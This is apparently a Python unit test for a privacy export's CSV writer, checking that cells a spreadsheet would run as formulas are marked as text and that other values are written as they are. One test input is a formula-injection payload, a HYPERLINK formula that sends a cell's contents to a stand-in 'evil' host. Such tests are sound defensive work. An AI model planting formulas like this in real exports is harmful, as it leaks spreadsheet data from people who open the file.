"""How a value is written into the export's CSV copy."""

from __future__ import annotations

from decimal import Decimal

from saypro.platform.privacy.archive import csv_value


def test_text_that_a_spreadsheet_would_run_is_marked_as_text() -> None:
    assert csv_value('=HYPERLINK("https://evil/?"&B12,"see")').startswith("'=")
    assert csv_value("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert csv_value("Load shedding") == "Load shedding"


def test_numbers_and_other_values_are_written_as_they_are() -> None:
    assert csv_value(Decimal("-4.5")) == "-4.5"
    assert csv_value(None) == ""
    assert csv_value(True) == "true"
    assert csv_value({"b": 1, "a": "=x"}) == '{"a": "=x", "b": 1}'
